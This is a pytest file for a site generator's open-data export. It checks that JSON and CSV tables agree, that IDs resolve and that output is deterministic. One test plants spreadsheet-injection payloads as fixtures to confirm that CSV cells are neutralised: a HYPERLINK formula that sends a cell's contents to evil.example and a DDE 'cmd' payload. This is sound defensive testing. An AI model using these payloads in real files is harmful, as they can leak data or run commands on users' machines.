"""Open data: every table as JSON and CSV, consistent with each other and with the content."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from conftest import ACTORS, ARTICLE, ARTICLE_PATH, VALID, write_texts

from generator.build.pipeline import generate_pages
from generator.outputs.open_data import TABLES, build_open_data, neutralise_cell

ROOT = Path(__file__).resolve().parent.parent
FIXTURE_CONTENT = ROOT / "tests" / "fixtures" / "story" / "content"


def data_files() -> dict[str, bytes]:
    return build_open_data(generate_pages(FIXTURE_CONTENT, display_root=ROOT).index)


def test_every_table_comes_as_json_and_csv_with_the_same_records() -> None:
    files = data_files()
    assert sorted(files) == sorted(
        ["data/dataset.json"] + [f"data/{table}.{suffix}" for table in TABLES for suffix in ("json", "csv")]
    )
    dataset = json.loads(files["data/dataset.json"])
    for table in TABLES:
        records = json.loads(files[f"data/{table}.json"])
        rows = list(csv.DictReader(io.StringIO(files[f"data/{table}.csv"].decode("utf-8"))))
        assert records == dataset[table]
        assert len(rows) == len(records) > 0, table
        assert list(rows[0]) == list(records[0])


def test_claims_carry_their_article_and_lists_are_joined_in_csv() -> None:
    files = data_files()
    claims = json.loads(files["data/claims.json"])
    refusal = next(claim for claim in claims if claim["id"] == "south-refuses")
    assert refusal["article"] == "2024-03-01-first-offer"
    assert refusal["url"] == "articles/2024-03-01-first-offer/#claim-south-refuses"
    assert (refusal["by"], refusal["via"], refusal["stance"]) == ("bo-south", "wire-service", "conditional")
    assert (refusal["date"], refusal["latest_date"]) == ("before 2024-03-01", "2024-03-01")
    assert (refusal["position"], refusal["conditions"]) == (
        "only once its conditions are met",
        ["its conditions are met first"],
    )
    offer = next(claim for claim in claims if claim["id"] == "north-offers-truce")
    assert offer["reports"] == ["2024-03-01-first-offer", "2024-03-10-south-accepts"]
    rows = list(csv.DictReader(io.StringIO(files["data/events.csv"].decode("utf-8"))))
    talks = next(row for row in rows if row["id"] == "lakeside-talks")
    assert talks["actors"] == "ada-north;bo-south"


def test_the_events_table_is_the_registry_with_each_events_lifecycle() -> None:
    files = data_files()
    events = json.loads(files["data/events.json"])
    assert [event["id"] for event in events] == [
        "lakeside-talks",
        "palace-summit",
    ]  # registry order, once each
    talks = events[0]
    assert (talks["date"], talks["end"], talks["status"], talks["url"]) == (
        "2024-03-08",
        "2024-03-09",
        "held",
        "events/lakeside-talks/",
    )
    assert talks["reports"] == ["2024-03-01-first-offer", "2024-03-10-south-accepts"]
    assert talks["report_dates"] == ["2024-03-01", "2024-03-10"]
    assert talks["statuses"] == ["proposed", "held"]
    rows = list(csv.DictReader(io.StringIO(files["data/events.csv"].decode("utf-8"))))
    assert rows[0]["statuses"] == "proposed;held"
    venues = list(csv.DictReader(io.StringIO(files["data/venues.csv"].decode("utf-8"))))
    assert next(row for row in venues if row["id"] == "hill-palace")["lat"] == ""


def test_every_id_a_record_points_at_exists() -> None:
    dataset = json.loads(data_files()["data/dataset.json"])
    known = {record["id"] for table in ("actors", "venues", "issues", "events") for record in dataset[table]}
    articles = {record["slug"] for record in dataset["articles"]}
    for claim in dataset["claims"]:
        assert claim["article"] in articles
        assert {
            claim["by"],
            *filter(None, [claim["via"], claim["venue"], claim["event"]]),
            *claim["issues"],
        } <= known
        assert claim["reports"][0] == claim["article"] and set(claim["reports"]) <= articles
    for event in dataset["events"]:
        assert {*event["actors"], *event["issues"], *filter(None, [event["venue"]])} <= known
        assert set(event["reports"]) <= articles


def test_open_data_is_the_same_bytes_every_time() -> None:
    assert data_files() == data_files()


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote_and_json_keeps_the_text(tmp_path: Path) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    texts = dict(VALID)
    texts["content/actors.yml"] = (
        ACTORS.replace("name: Alice Example", f"name: '{formula.replace(chr(39), chr(39) * 2)}'")
        .replace("  role: Mayor", "  aliases: [Alice, '@SUM(1+1)', '-2+3']\n  role: Mayor")
        .replace("summary: A fictional organisation.", "summary: \"+cmd|' /C calc'!A0\"")
    )
    texts[ARTICLE_PATH] = ARTICLE.replace("text: Alice offers", "text: =1+1 Alice offers")
    content = write_texts(tmp_path, texts)

    files = build_open_data(generate_pages(content, display_root=tmp_path).index)

    actors = list(csv.DictReader(io.StringIO(files["data/actors.csv"].decode("utf-8"))))
    assert actors[0]["name"] == "'" + formula
    assert actors[0]["aliases"] == "Alice;'@SUM(1+1);'-2+3"
    assert actors[1]["summary"] == "'+cmd|' /C calc'!A0"
    claims = list(csv.DictReader(io.StringIO(files["data/claims.csv"].decode("utf-8"))))
    assert claims[0]["text"] == "'=1+1 Alice offers to sell the harbour."
    # Numbers are data, not formulas: a negative longitude stays a number.
    venues = list(csv.DictReader(io.StringIO(files["data/venues.csv"].decode("utf-8"))))
    assert (venues[0]["lat"], venues[0]["lon"]) == ("10.5", "-20.25")
    # JSON keeps the exact text.
    dataset = json.loads(files["data/dataset.json"])
    assert dataset["actors"][0]["name"] == formula
    assert dataset["actors"][0]["aliases"] == ["Alice", "@SUM(1+1)", "-2+3"]
    assert dataset["claims"][0]["text"] == "=1+1 Alice offers to sell the harbour."


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\0x", "'\0x"),
        ("", ""),
        ("Alice = Bob", "Alice = Bob"),
        ("'=1+1", "'=1+1"),
    ],
)
def test_neutralise_cell(text: str, cell: str) -> None:
    assert neutralise_cell(text) == cell


def test_the_data_page_documents_every_table_and_column() -> None:
    # The CSV headers are a contract with the data's readers: content/pages/data.md names every column.
    page = (ROOT / "content" / "pages" / "data.md").read_text(encoding="utf-8")
    dataset = json.loads(data_files()["data/dataset.json"])
    fields = page.split("## Fields", 1)[1].split("\n## ", 1)[0]
    documented = {
        line.split("**")[1].lower(): line for line in fields.replace("\n  ", " ").splitlines() if "**" in line
    }
    for table in TABLES:
        assert f"[{table}.json](data/{table}.json)" in page, table
        missing = [column for column in dataset[table][0] if f"`{column}`" not in documented[table]]
        assert missing == [], table
